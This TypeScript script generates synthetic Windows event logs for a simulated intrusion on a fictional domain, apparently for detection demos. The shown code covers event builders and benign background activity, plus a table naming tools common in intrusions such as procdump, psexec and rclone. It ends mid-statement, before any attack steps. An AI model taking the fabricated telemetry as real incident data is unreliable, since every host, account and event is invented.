/**
 * Generates samples/intrusion.ndjson: a simulated two-hour intrusion on the small CORP domain,
 * mixed with benign background activity, as rendered Windows events (Sysmon, Security, System).
 * Deterministic: the same script writes the same file.
 *
 *   node --import tsx scripts/make-demo-sample.ts [out.ndjson]
 *
 * Hosts: WS-FIN-07 (victim workstation, Sysmon + Security), WS-HR-03 (benign workstation, Sysmon
 * + Security), SRV-FILE-01 (file server, Security + System only, so process creation is 4688),
 * DC-01 (domain controller, Security). External addresses are documentation ranges.
 */
import { createHash } from "node:crypto";
import { writeFileSync } from "node:fs";

type Scalar = string | number | boolean | null;
type Data = Record<string, Scalar>;

// --- deterministic randomness -------------------------------------------------------------

let seed = 0x70c5112;
function rand(): number {
  seed = (seed + 0x6d2b79f5) | 0;
  let t = seed;
  t = Math.imul(t ^ (t >>> 15), t | 1);
  t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
}
const int = (lo: number, hi: number) => lo + Math.floor(rand() * (hi - lo + 1));
const pick = <T>(items: readonly T[]): T => items[Math.floor(rand() * items.length)] as T;
const hex = (n: number) => Array.from({ length: n }, () => "0123456789ABCDEF"[int(0, 15)]).join("");

// --- hosts ---------------------------------------------------------------------------------

interface Host {
  readonly name: string;
  readonly ip: string;
  readonly sysmonPid: number;
  readonly lsassPid: number;
  readonly guidPrefix: string;
  readonly activity: string;
  nextRecord: number;
}

const FIN: Host = {
  name: "WS-FIN-07.corp.example",
  ip: "10.20.1.57",
  sysmonPid: 3208,
  lsassPid: 724,
  guidPrefix: "6A1E3C57",
  activity: "{D1B3A1F4-5C1B-0002-61A6-B3D15C1BDD01}",
  nextRecord: 48211,
};
const HR: Host = {
  name: "WS-HR-03.corp.example",
  ip: "10.20.1.33",
  sysmonPid: 2996,
  lsassPid: 716,
  guidPrefix: "9F03B7A1",
  activity: "{7E02C9A0-5C1B-0001-9A0C-027E1B5CDD01}",
  nextRecord: 30977,
};
const SRV: Host = {
  name: "SRV-FILE-01.corp.example",
  ip: "10.20.5.10",
  sysmonPid: 0,
  lsassPid: 688,
  guidPrefix: "",
  activity: "{A4F1E2B7-5A1B-0003-B7E2-F1A41B5ADD01}",
  nextRecord: 911204,
};
const DC: Host = {
  name: "DC-01.corp.example",
  ip: "10.20.0.10",
  sysmonPid: 0,
  lsassPid: 652,
  guidPrefix: "",
  activity: "{0C9D33E8-5A1B-0000-E833-9D0C1B5ADD01}",
  nextRecord: 2210443,
};

const DOMAIN_SID = "S-1-5-21-3358810137-1962203510-2751402364";
interface Account {
  readonly name: string;
  readonly sid: string;
}
const JDOE: Account = { name: "j.doe", sid: `${DOMAIN_SID}-1107` };
const MKELLER: Account = { name: "m.keller", sid: `${DOMAIN_SID}-1143` };
const ADMSVC: Account = { name: "adm.svcbackup", sid: `${DOMAIN_SID}-1311` };
const SYSTEM: Account = { name: "SYSTEM", sid: "S-1-5-18" };

// --- time ----------------------------------------------------------------------------------

const START = Date.parse("2026-11-20T08:30:00.000Z");
/** Milliseconds since the epoch of minute `m` (fractional allowed) after 08:30. */
const at = (m: number) => START + Math.round(m * 60_000) + int(0, 99);
function systemTime(t: number): string {
  return `${new Date(t).toISOString().slice(0, 23)}${String(int(0, 999)).padStart(3, "0")}Z`;
}
const utcTime = (t: number) => new Date(t).toISOString().slice(0, 23).replace("T", " ");

// --- events --------------------------------------------------------------------------------

interface Pending {
  readonly host: Host;
  readonly time: number;
  readonly attack: boolean;
  readonly make: (recordId: number) => unknown;
}
const pending: Pending[] = [];
/** Whether the events being added belong to the intrusion (kept for the counts printed at the end). */
let attack = false;

const SYSMON_VERSION: Record<number, number> = { 1: 5, 3: 5, 7: 3, 10: 3, 11: 2, 13: 2, 22: 5 };

function sysmon(host: Host, time: number, id: number, data: Data): void {
  const system = {
    Provider: { "#attributes": { Name: "Microsoft-Windows-Sysmon", Guid: "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}" } },
    EventID: id,
    Version: SYSMON_VERSION[id] ?? 2,
    Level: 4,
    Task: id,
    Opcode: 0,
    Keywords: "0x8000000000000000",
    TimeCreated: { "#attributes": { SystemTime: systemTime(time) } },
  };
  const tail = {
    Correlation: null,
    Execution: { "#attributes": { ProcessID: host.sysmonPid, ThreadID: int(1000, 9000) } },
    Channel: "Microsoft-Windows-Sysmon/Operational",
    Computer: host.name,
    Security: { "#attributes": { UserID: "S-1-5-18" } },
  };
  const eventData = { RuleName: "-", UtcTime: utcTime(time - int(1, 8)), ...data };
  pending.push({
    host,
    time,
    attack,
    make: (rid) => ({ Event: { System: { ...system, EventRecordID: rid, ...tail }, EventData: eventData } }),
  });
}

const SECURITY_TASK: Record<number, number> = {
  4624: 12544,
  4625: 12544,
  4688: 13312,
  4720: 13824,
  4768: 14339,
  4769: 14337,
};
const SECURITY_VERSION: Record<number, number> = { 4624: 2, 4688: 2, 4625: 0, 4720: 0, 4768: 0, 4769: 0 };

function security(host: Host, time: number, id: number, data: Data, failure = false): void {
  const system = {
    Provider: {
      "#attributes": { Name: "Microsoft-Windows-Security-Auditing", Guid: "{54849625-5478-4994-A5BA-3E3B0328C30D}" },
    },
    EventID: id,
    Version: SECURITY_VERSION[id] ?? 0,
    Level: 0,
    Task: SECURITY_TASK[id] ?? 12544,
    Opcode: 0,
    Keywords: failure ? "0x8010000000000000" : "0x8020000000000000",
    TimeCreated: { "#attributes": { SystemTime: systemTime(time) } },
  };
  const tail = {
    Correlation: id === 4624 || id === 4625 ? { "#attributes": { ActivityID: host.activity } } : null,
    Execution: { "#attributes": { ProcessID: host.lsassPid, ThreadID: int(700, 5000) } },
    Channel: "Security",
    Computer: host.name,
    Security: null,
  };
  pending.push({
    host,
    time,
    attack,
    make: (rid) => ({ Event: { System: { ...system, EventRecordID: rid, ...tail }, EventData: data } }),
  });
}

function logCleared(host: Host, time: number, who: Account, logonId: string): void {
  const system = {
    Provider: { "#attributes": { Name: "Microsoft-Windows-Eventlog", Guid: "{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}" } },
    EventID: 1102,
    Version: 0,
    Level: 4,
    Task: 104,
    Opcode: 0,
    Keywords: "0x4020000000000000",
    TimeCreated: { "#attributes": { SystemTime: systemTime(time) } },
  };
  const tail = {
    Correlation: null,
    Execution: { "#attributes": { ProcessID: 1312, ThreadID: int(1000, 9000) } },
    Channel: "Security",
    Computer: host.name,
    Security: null,
  };
  const userData = {
    LogFileCleared: {
      SubjectUserSid: who.sid,
      SubjectUserName: who.name,
      SubjectDomainName: "CORP",
      SubjectLogonId: logonId,
    },
  };
  pending.push({
    host,
    time,
    attack,
    make: (rid) => ({ Event: { System: { ...system, EventRecordID: rid, ...tail }, UserData: userData } }),
  });
}

function serviceInstalled(host: Host, time: number, name: string, imagePath: string, start: string): void {
  const system = {
    Provider: {
      "#attributes": {
        Name: "Service Control Manager",
        Guid: "{555908D1-A6D7-4695-8E1E-26931D2012F4}",
        EventSourceName: "Service Control Manager",
      },
    },
    EventID: { "#attributes": { Qualifiers: 16384 }, "#text": 7045 },
    Version: 0,
    Level: 4,
    Task: 0,
    Opcode: 0,
    Keywords: "0x8080000000000000",
    TimeCreated: { "#attributes": { SystemTime: systemTime(time) } },
  };
  const tail = {
    Correlation: null,
    Execution: { "#attributes": { ProcessID: 640, ThreadID: int(1000, 9000) } },
    Channel: "System",
    Computer: host.name,
    Security: { "#attributes": { UserID: attack ? ADMSVC.sid : "S-1-5-18" } },
  };
  const data = {
    ServiceName: name,
    ImagePath: imagePath,
    ServiceType: "user mode service",
    StartType: start,
    AccountName: "LocalSystem",
  };
  pending.push({
    host,
    time,
    attack,
    make: (rid) => ({ Event: { System: { ...system, EventRecordID: rid, ...tail }, EventData: data } }),
  });
}

// --- processes -----------------------------------------------------------------------------

interface Proc {
  readonly host: Host;
  readonly guid: string;
  readonly pid: number;
  readonly image: string;
  readonly cmd: string;
  readonly user: Account;
  readonly logonId: string;
  readonly integrity: string;
}

// Version info Sysmon reports: description, company, original file name.
const META: Record<string, readonly [string, string, string]> = {
  "powershell.exe": ["Windows PowerShell", "Microsoft Corporation", "PowerShell.EXE"],
  "cmd.exe": ["Windows Command Processor", "Microsoft Corporation", "Cmd.Exe"],
  "whoami.exe": ["whoami - displays logged on user information", "Microsoft Corporation", "whoami.exe"],
  "net.exe": ["Net Command", "Microsoft Corporation", "net.exe"],
  "nltest.exe": ["Microsoft\u00ae Logon Server Test Utility", "Microsoft Corporation", "nltestrk.exe"],
  "ipconfig.exe": ["IP Configuration Utility", "Microsoft Corporation", "ipconfig.exe"],
  "systeminfo.exe": ["Displays system information", "Microsoft Corporation", "sysinfo.exe"],
  "pd.exe": ["Sysinternals process dump utility", "Sysinternals - www.sysinternals.com", "procdump"],
  "rundll32.exe": ["Windows host process (Rundll32)", "Microsoft Corporation", "RUNDLL32.EXE"],
  "reg.exe": ["Registry Console Tool", "Microsoft Corporation", "reg.exe"],
  "psexec64.exe": ["Execute processes remotely", "Sysinternals - www.sysinternals.com", "psexec.c"],
  "sc.exe": ["Service Control Manager Configuration Tool", "Microsoft Corporation", "sc.exe"],
  "wmic.exe": ["WMI Commandline Utility", "Microsoft Corporation", "wmic.exe"],
  "schtasks.exe": ["Task Scheduler Configuration Tool", "Microsoft Corporation", "schtasks.exe"],
  "7z.exe": ["7-Zip Console", "Igor Pavlov", "7z.exe"],
  "7zg.exe": ["7-Zip GUI", "Igor Pavlov", "7zg.exe"],
  "curl.exe": ["The curl executable", "curl, https://curl.se/", "curl.exe"],
  "rclone.exe": ["Rsync for cloud storage", "https://rclone.org", "rclone.exe"],
  "bitsadmin.exe": ["BITS administration utility", "Microsoft Corporation", "bitsadmin.exe"],
  "wevtutil.exe": ["Eventing Command Line Utility", "Microsoft Corporation", "wevtutil.exe"],
  "odsync.exe": ["OneDrive Sync Helper", "Microsoft Corporation", "odsync.exe"],
  "chrome.exe": ["Google Chrome", "Google LLC", "chrome.exe"],
  "ms-teams.exe": ["Microsoft Teams", "Microsoft Corporation", "ms-teams.exe"],
  "onedrive.exe": ["Microsoft OneDrive", "Microsoft Corporation", "OneDrive.exe"],
  "onedrivestandaloneupdater.exe": ["Standalone Updater", "Microsoft Corporation", "OneDriveStandaloneUpdater.exe"],
  "winword.exe": ["Microsoft Word", "Microsoft Corporation", "WinWord.exe"],
  "excel.exe": ["Microsoft Excel", "Microsoft Corporation", "Excel.exe"],
  "outlook.exe": ["Microsoft Outlook", "Microsoft Corporation", "Outlook.exe"],
  "notepad.exe": ["Notepad", "Microsoft Corporation", "NOTEPAD.EXE"],
  "searchprotocolhost.exe": [
    "Microsoft Windows Search Protocol Host",
    "Microsoft Corporation",
    "SearchProtocolHost.exe",
  ],
  "backgroundtaskhost.exe": ["Background Task Host", "Microsoft Corporation", "backgroundTaskHost.exe"],
  "taskhostw.exe": ["Host Process for Windows Tasks", "Microsoft Corporation", "taskhostw.exe"],
  "mpcmdrun.exe": ["Microsoft Malware Protection Command Line Utility", "Microsoft Corporation", "MpCmdRun.exe"],
  "conhost.exe": ["Console Window Host", "Microsoft Corporation", "CONHOST.EXE"],
  "svchost.exe": ["Host Process for Windows Services", "Microsoft Corporation", "svchost.exe"],
  "gpupdate.exe": ["Microsoft\u00ae Group Policy Update Utility", "Microsoft Corporation", "gpupdate.exe"],
};

function baseName(path: string): string {
  return path.slice(path.lastIndexOf("\\") + 1);
}

function hashes(image: string): string {
  const sha = createHash("sha256").update(image.toLowerCase()).digest("hex").toUpperCase();
  const imp = createHash("md5").update(`imp:${image.toLowerCase()}`).digest("hex").toUpperCase();
  return `SHA256=${sha},IMPHASH=${imp}`;
}

function newGuid(host: Host): string {
  return `{${host.guidPrefix || hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`;
}

function userName(user: Account): string {
  return user === SYSTEM ? "NT AUTHORITY\\SYSTEM" : `CORP\\${user.name}`;
}

/** A process already running when the capture starts. */
function running(host: Host, image: string, cmd: string, user: Account, logonId: string, integrity = "Medium"): Proc {
  return { host, guid: newGuid(host), pid: int(600, 12000) & ~3, image, cmd, user, logonId, integrity };
}

interface StartOptions {
  readonly user?: Account;
  readonly logonId?: string;
  readonly integrity?: string;
  readonly cwd?: string;
}

/** A new process: Sysmon 1 on hosts with Sysmon, Security 4688 on the others. */
function start(time: number, parent: Proc, image: string, cmd: string, options: StartOptions = {}): Proc {
  const host = parent.host;
  const user = options.user ?? parent.user;
  const logonId = options.logonId ?? parent.logonId;
  const integrity = options.integrity ?? parent.integrity;
  const proc: Proc = { host, guid: newGuid(host), pid: int(600, 14000) & ~3, image, cmd, user, logonId, integrity };
  if (host.sysmonPid !== 0) {
    const meta = META[baseName(image).toLowerCase()];
    sysmon(host, time, 1, {
      ProcessGuid: proc.guid,
      ProcessId: proc.pid,
      Image: image,
      Description: meta?.[0] ?? "-",
      Company: meta?.[1] ?? "-",
      OriginalFileName: meta?.[2] ?? baseName(image),
      CommandLine: cmd,
      CurrentDirectory: options.cwd ?? (user === SYSTEM ? "C:\\Windows\\system32\\" : `C:\\Users\\${user.name}\\`),
      User: userName(user),
      LogonId: logonId,
      TerminalSessionId: user === SYSTEM ? 0 : 1,
      IntegrityLevel: integrity,
      Hashes: hashes(image),
      ParentProcessGuid: parent.guid,
      ParentProcessId: parent.pid,
      ParentImage: parent.image,
      ParentCommandLine: parent.cmd,
      ParentUser: userName(parent.user),
    });
  } else {
    security(host, time, 4688, {
      SubjectUserSid: user.sid,
      SubjectUserName: user === SYSTEM ? `${host.name.split(".")[0]}$` : user.name,
      SubjectDomainName: "CORP",
      SubjectLogonId: logonId,
      NewProcessId: `0x${proc.pid.toString(16)}`,
      NewProcessName: image,
      TokenElevationType: "%%1936",
      ProcessId: `0x${parent.pid.toString(16)}`,
      CommandLine: cmd,
      TargetUserSid: "S-1-0-0",
      TargetUserName: "-",
      TargetDomainName: "-",
      TargetLogonId: "0x0",
      ParentProcessName: parent.image,
      MandatoryLabel: integrity === "System" ? "S-1-16-16384" : integrity === "High" ? "S-1-16-12288" : "S-1-16-8192",
    });
  }
  return proc;
}

function connect(time: number, p: Proc, ip: string, port: number, hostname = "-"): void {
  const local = p.host.ip;
  sysmon(p.host, time, 3, {
    ProcessGuid: p.guid,
    ProcessId: p.pid,
    Image: p.image,
    User: userName(p.user),
    Protocol: "tcp",
    Initiated: true,
    SourceIsIpv6: false,
    SourceIp: local,
    SourceHostname: p.host.name,
    SourcePort: int(49700, 65000),
    SourcePortName: "-",
    DestinationIsIpv6: false,
    DestinationIp: ip,
    DestinationHostname: hostname,
    DestinationPort: port,
    DestinationPortName: port === 443 ? "https" : port === 80 ? "http" : port === 445 ? "microsoft-ds" : "-",
  });
}

function fileCreate(time: number, p: Proc, target: string): void {
  sysmon(p.host, time, 11, {
    ProcessGuid: p.guid,
    ProcessId: p.pid,
    Image: p.image,
    TargetFilename: target,
    CreationUtcTime: utcTime(time - 5),
    User: userName(p.user),
  });
}

function registrySet(time: number, p: Proc, key: string, details: string): void {
  sysmon(p.host, time, 13, {
    EventType: "SetValue",
    ProcessGuid: p.guid,
    ProcessId: p.pid,
    Image: p.image,
    TargetObject: key,
    Details: details,
    User: userName(p.user),
  });
}

function dnsQuery(time: number, p: Proc, name: string, result: string): void {
  sysmon(p.host, time, 22, {
    ProcessGuid: p.guid,
    ProcessId: p.pid,
    QueryName: name,
    QueryStatus: "0",
    QueryResults: `::ffff:${result};`,
    Image: p.image,
    User: userName(p.user),
  });
}

function processAccess(time: number, source: Proc, target: Proc, access: string, trace: string): void {
  sysmon(source.host, time, 10, {
    SourceProcessGUID: source.guid,
    SourceProcessId: source.pid,
    SourceThreadId: int(1000, 9000),
    SourceImage: source.image,
    TargetProcessGUID: target.guid,
    TargetProcessId: target.pid,
    TargetImage: target.image,
    GrantedAccess: access,
    CallTrace: trace,
    SourceUser: userName(source.user),
    TargetUser: "NT AUTHORITY\\SYSTEM",
  });
}

function imageLoad(time: number, p: Proc, dll: string): void {
  sysmon(p.host, time, 7, {
    ProcessGuid: p.guid,
    ProcessId: p.pid,
    Image: p.image,
    ImageLoaded: dll,
    Description: "-",
    OriginalFileName: baseName(dll),
    Hashes: hashes(dll),
    Signed: true,
    Signature: "Microsoft Windows",
    SignatureStatus: "Valid",
    User: userName(p.user),
  });
}

interface LogonOptions {
  readonly type: number;
  readonly ip: string;
  readonly workstation: string;
  readonly ntlm?: boolean;
  readonly keyLength?: number;
  readonly domain?: string;
  readonly targetSid?: string;
}

function logon(host: Host, time: number, user: string, o: LogonOptions): string {
  const logonId = `0x${hex(7).toLowerCase()}`;
  const kerberos = !o.ntlm && o.type === 3;
  const process = o.type === 2 || o.type === 7 || o.type === 11 ? "User32 " : kerberos ? "Kerberos" : "NtLmSsp ";
  const pkg = o.type === 2 || o.type === 7 || o.type === 11 ? "Negotiate" : kerberos ? "Kerberos" : "NTLM";
  security(host, time, 4624, {
    SubjectUserSid: o.type === 2 || o.type === 7 ? "S-1-5-18" : "S-1-0-0",
    SubjectUserName: o.type === 2 || o.type === 7 ? `${host.name.split(".")[0]}$` : "-",
    SubjectDomainName: o.type === 2 || o.type === 7 ? "CORP" : "-",
    SubjectLogonId: o.type === 2 || o.type === 7 ? "0x3e7" : "0x0",
    TargetUserSid: o.targetSid ?? "S-1-0-0",
    TargetUserName: user,
    TargetDomainName: o.domain ?? "CORP",
    TargetLogonId: logonId,
    LogonType: o.type,
    LogonProcessName: process,
    AuthenticationPackageName: pkg,
    WorkstationName: o.workstation,
    LogonGuid: kerberos
      ? `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`
      : "{00000000-0000-0000-0000-000000000000}",
    TransmittedServices: "-",
    LmPackageName: pkg === "NTLM" ? (user === "ANONYMOUS LOGON" ? "NTLM V1" : "NTLM V2") : "-",
    KeyLength: o.keyLength ?? 0,
    ProcessId: o.type === 2 || o.type === 7 ? "0x2a4" : "0x0",
    ProcessName: o.type === 2 || o.type === 7 ? "C:\\Windows\\System32\\svchost.exe" : "-",
    IpAddress: o.ip,
    IpPort: o.ip === "-" || o.ip === "127.0.0.1" ? "0" : String(int(49700, 65000)),
    ImpersonationLevel: "%%1833",
    ElevatedToken: o.type === 3 ? "%%1842" : "%%1843",
  });
  return logonId;
}

function failedLogon(host: Host, time: number, user: string, type: number, ip: string, workstation: string): void {
  security(
    host,
    time,
    4625,
    {
      SubjectUserSid: type === 2 ? "S-1-5-18" : "S-1-0-0",
      SubjectUserName: type === 2 ? `${host.name.split(".")[0]}$` : "-",
      SubjectDomainName: type === 2 ? "CORP" : "-",
      SubjectLogonId: type === 2 ? "0x3e7" : "0x0",
      TargetUserSid: "S-1-0-0",
      TargetUserName: user,
      TargetDomainName: "CORP",
      Status: "0xc000006d",
      FailureReason: "%%2313",
      SubStatus: "0xc000006a",
      LogonType: type,
      LogonProcessName: type === 2 ? "User32 " : "NtLmSsp ",
      AuthenticationPackageName: type === 2 ? "Negotiate" : "NTLM",
      WorkstationName: workstation,
      TransmittedServices: "-",
      LmPackageName: "-",
      KeyLength: 0,
      ProcessId: type === 2 ? "0x2a4" : "0x0",
      ProcessName: type === 2 ? "C:\\Windows\\System32\\svchost.exe" : "-",
      IpAddress: ip,
      IpPort: ip === "127.0.0.1" ? "0" : String(int(49700, 65000)),
    },
    true,
  );
}

function ticket(time: number, user: string, ip: string, service: string): void {
  security(DC, time, service === "krbtgt" ? 4768 : 4769, {
    TargetUserName: `${user}@CORP.EXAMPLE`,
    TargetDomainName: "CORP.EXAMPLE",
    ServiceName: service,
    ServiceSid: `${DOMAIN_SID}-502`,
    TicketOptions: "0x40810000",
    Status: "0x0",
    TicketEncryptionType: "0x12",
    IpAddress: `::ffff:${ip}`,
    IpPort: String(int(49700, 65000)),
  });
}

// --- the workstations' baseline ------------------------------------------------------------

const SYS = "C:\\Windows\\System32\\";
const BENIGN_SITES: readonly (readonly [string, string])[] = [
  ["www.microsoft.com", "198.51.100.120"],
  ["login.microsoftonline.com", "198.51.100.121"],
  ["teams.microsoft.com", "198.51.100.130"],
  ["outlook.office365.com", "198.51.100.140"],
  ["oneclient.sfx.ms", "203.0.113.160"],
  ["corp-my.sharepoint.com", "203.0.113.170"],
  ["clients2.google.com", "203.0.113.180"],
  ["www.google.com", "203.0.113.181"],
  ["intranet.corp.example", "10.20.0.40"],
  ["news.example.com", "203.0.113.190"],
];

interface Desktop {
  readonly host: Host;
  readonly user: Account;
  readonly logonId: string;
  readonly explorer: Proc;
  readonly services: Proc;
  readonly schedule: Proc;
  readonly netsvc: Proc;
  readonly lsass: Proc;
  readonly defender: Proc;
  readonly wininit: Proc;
  chrome?: Proc;
  teams?: Proc;
  onedrive?: Proc;
  outlook?: Proc;
}

function desktop(host: Host, user: Account, logonMinute: number): Desktop {
  const t = at(logonMinute);
  const logonId = logon(host, t, user.name, {
    type: 2,
    ip: "127.0.0.1",
    workstation: host.name.split(".")[0] as string,
    targetSid: user.sid,
  });
  const services = running(host, `${SYS}services.exe`, `${SYS}services.exe`, SYSTEM, "0x3e7", "System");
  return {
    host,
    user,
    logonId,
    services,
    explorer: running(host, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", user, logonId),
    schedule: running(
      host,
      `${SYS}svchost.exe`,
      `${SYS}svchost.exe -k netsvcs -p -s Schedule`,
      SYSTEM,
      "0x3e7",
      "System",
    ),
    netsvc: running(
      host,
      `${SYS}svchost.exe`,
      `${SYS}svchost.exe -k NetworkService -p -s Dnscache`,
      SYSTEM,
      "0x3e4",
      "System",
    ),
    lsass: running(host, `${SYS}lsass.exe`, `${SYS}lsass.exe`, SYSTEM, "0x3e7", "System"),
    wininit: running(host, `${SYS}wininit.exe`, "wininit.exe", SYSTEM, "0x3e7", "System"),
    defender: running(
      host,
      "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\MsMpEng.exe",
      '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\MsMpEng.exe"',
      SYSTEM,
      "0x3e7",
      "System",
    ),
  };
}

function morningApps(d: Desktop, minute: number): void {
  const u = d.user.name;
  const local = `C:\\Users\\${u}\\AppData\\Local`;
  d.onedrive = start(
    at(minute),
    d.explorer,
    `${local}\\Microsoft\\OneDrive\\OneDrive.exe`,
    `"${local}\\Microsoft\\OneDrive\\OneDrive.exe" /background`,
  );
  registrySet(
    at(minute + 0.1),
    d.onedrive,
    `HKU\\${d.user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive`,
    `"${local}\\Microsoft\\OneDrive\\OneDrive.exe" /background`,
  );
  const teamsDir = "C:\\Program Files\\WindowsApps\\MSTeams_25290.205.4069.4894_x64__8wekyb3d8bbwe";
  d.teams = start(
    at(minute + 0.5),
    d.explorer,
    `${teamsDir}\\ms-teams.exe`,
    `"${teamsDir}\\ms-teams.exe" msteams:system-initiated`,
  );
  registrySet(
    at(minute + 0.6),
    d.teams,
    `HKU\\${d.user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\ms-teams`,
    `"${teamsDir}\\ms-teams.exe" msteams:system-initiated`,
  );
  const office = "C:\\Program Files\\Microsoft Office\\root\\Office16";
  d.outlook = start(at(minute + 1.2), d.explorer, `${office}\\OUTLOOK.EXE`, `"${office}\\OUTLOOK.EXE" `);
  connect(at(minute + 1.3), d.outlook, "198.51.100.140", 443, "outlook.office365.com");
  const chromeImg = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";
  d.chrome = start(at(minute + 2), d.explorer, chromeImg, `"${chromeImg}" `);
  imageLoad(at(minute + 2.01), d.chrome, `${SYS}mswsock.dll`);
  imageLoad(at(minute + 2.02), d.chrome, `${SYS}dnsapi.dll`);
}

/** One random piece of everyday activity on a workstation. */
function background(d: Desktop, minute: number): void {
  const t = at(minute);
  const u = d.user.name;
  const chromeImg = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";
  const office = "C:\\Program Files\\Microsoft Office\\root\\Office16";
  const site = pick(BENIGN_SITES);
  switch (int(0, 11)) {
    case 0: {
      if (!d.chrome) return;
      start(
        t,
        d.chrome,
        chromeImg,
        `"${chromeImg}" --type=renderer --lang=en-US --renderer-client-id=${int(10, 300)} --time-ticks-at-unix-epoch=-1763621${int(100000, 999999)} --field-trial-handle=2024,i,${int(1e8, 9e8)} /prefetch:1`,
      );
      dnsQuery(t + 40, d.chrome, site[0], site[1]);
      if (!site[1].startsWith("10.")) connect(t + 90, d.chrome, site[1], 443, site[0]);
      return;
    }
    case 1:
      if (d.teams) {
        dnsQuery(t, d.teams, "teams.microsoft.com", "198.51.100.130");
        connect(t + 60, d.teams, "198.51.100.130", 443, "teams.microsoft.com");
      }
      return;
    case 2:
      if (d.onedrive) {
        dnsQuery(t, d.onedrive, "corp-my.sharepoint.com", "203.0.113.170");
        connect(t + 50, d.onedrive, "203.0.113.170", 443, "corp-my.sharepoint.com");
        fileCreate(t + 900, d.onedrive, `C:\\Users\\${u}\\OneDrive - CORP\\Documents\\Notes ${int(1, 40)}.docx`);
      }
      return;
    case 3: {
      start(
        t,
        d.schedule,
        `${SYS}taskhostw.exe`,
        "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly",
        {
          user: SYSTEM,
          logonId: "0x3e7",
          integrity: "System",
        },
      );
      return;
    }
    case 4:
      start(
        t,
        d.services,
        `${SYS}SearchProtocolHost.exe`,
        `"${SYS}SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe${int(1, 99)} Global\\UsGthrCtrlFltPipeMssGthrPipe${int(1, 99)} 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon" `,
        {
          user: SYSTEM,
          logonId: "0x3e7",
          integrity: "System",
        },
      );
      return;
    case 5:
      processAccess(
        t,
        d.netsvc,
        d.lsass,
        "0x1000",
        `C:\\Windows\\SYSTEM32\\ntdll.dll+a0d24|C:\\Windows\\System32\\KERNELBASE.dll+6f5d2|c:\\windows\\system32\\lsm.dll+1a3f7`,
      );
      return;
    case 6:
      processAccess(
        t,
        d.defender,
        d.lsass,
        "0x1410",
        `C:\\Windows\\SYSTEM32\\ntdll.dll+a0d24|C:\\Windows\\System32\\KERNELBASE.dll+6f5d2|C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\mpsvc.dll+4b1c2`,
      );
      return;
    case 7:
      dnsQuery(t, d.netsvc, site[0], site[1]);
      return;
    case 8:
      if (d.chrome)
        fileCreate(
          t,
          d.chrome,
          `C:\\Users\\${u}\\Downloads\\${pick(["statement", "agenda", "brochure", "travel-policy"])}-${int(1, 90)}.pdf`,
        );
      return;
    case 9: {
      const xl = start(
        t,
        d.explorer,
        `${office}\\EXCEL.EXE`,
        `"${office}\\EXCEL.EXE" "C:\\Users\\${u}\\OneDrive - CORP\\Documents\\Budget ${int(2025, 2026)}.xlsx"`,
      );
      fileCreate(t + 3000, xl, `C:\\Users\\${u}\\OneDrive - CORP\\Documents\\~$Budget ${int(2025, 2026)}.xlsx`);
      return;
    }
    case 10:
      connect(t, d.explorer, SRV.ip, 445, SRV.name);
      return;
    default:
      start(
        t,
        d.services,
        `${SYS}backgroundTaskHost.exe`,
        `"${SYS}backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider`,
        {
          integrity: "Low",
        },
      );
  }
}

function oneDriveUpdate(d: Desktop, minute: number): void {
  const t = at(minute);
  const dir = `C:\\Users\\${d.user.name}\\AppData\\Local\\Microsoft\\OneDrive`;
  const upd = start(
    t,
    d.schedule,
    `${dir}\\OneDriveStandaloneUpdater.exe`,
    `"${dir}\\OneDriveStandaloneUpdater.exe" /reporting`,
    {
      user: d.user,
      logonId: d.logonId,
      integrity: "Medium",
    },
  );
  dnsQuery(t + 200, upd, "oneclient.sfx.ms", "203.0.113.160");
  connect(t + 400, upd, "203.0.113.160", 443, "oneclient.sfx.ms");
  fileCreate(t + 9000, upd, `${dir}\\StandaloneUpdater\\OneDriveSetup.exe`);
  fileCreate(t + 9500, upd, `${dir}\\logs\\Personal\\Update_2026-11-20.log`);
}

function defenderUpdate(d: Desktop, minute: number): void {
  const t = at(minute);
  const mp = start(
    t,
    d.defender,
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\MpCmdRun.exe",
    '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\MpCmdRun.exe" SignaturesUpdateService -ScheduleJob -UnmanagedUpdate',
    {
      user: SYSTEM,
      logonId: "0x3e7",
      integrity: "System",
    },
  );
  dnsQuery(t + 300, mp, "go.microsoft.com", "198.51.100.122");
  connect(t + 500, mp, "198.51.100.122", 443, "go.microsoft.com");
  connect(t + 900, d.defender, "198.51.100.123", 443, "wdcp.microsoft.com");
}

function logonScript(d: Desktop, minute: number): void {
  const t = at(minute);
  const gp = running(d.host, `${SYS}gpscript.exe`, "gpscript.exe /Logon", d.user, d.logonId);
  start(
    t,
    gp,
    `${SYS}WindowsPowerShell\\v1.0\\powershell.exe`,
    `powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -File \\\\corp.example\\NETLOGON\\inventory.ps1`,
  );
}

// --- benign activity -----------------------------------------------------------------------

const fin = desktop(FIN, JDOE, 1.5);
const hr = desktop(HR, MKELLER, 4);
failedLogon(FIN, at(1.2), "j.doe", 2, "127.0.0.1", "WS-FIN-07");
failedLogon(HR, at(3.8), "m.keller", 2, "127.0.0.1", "WS-HR-03");
for (const [d, m] of [
